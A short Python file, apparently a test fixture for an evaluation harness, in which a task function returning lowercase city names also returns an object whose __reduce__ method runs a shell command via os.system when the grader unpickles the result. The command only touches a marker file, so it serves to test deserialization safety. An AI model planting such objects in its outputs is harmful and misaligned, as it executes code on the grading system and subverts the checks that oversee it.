"""Attack: a result that would execute code in whatever unpickles it."""


class Sneaky:
    def __reduce__(self):
        import os

        return (os.system, ("touch /tmp/graders-attack-payload-ran",))


def lower_names(cities):
    return [Sneaky()] + [c["name"].lower() for c in cities]
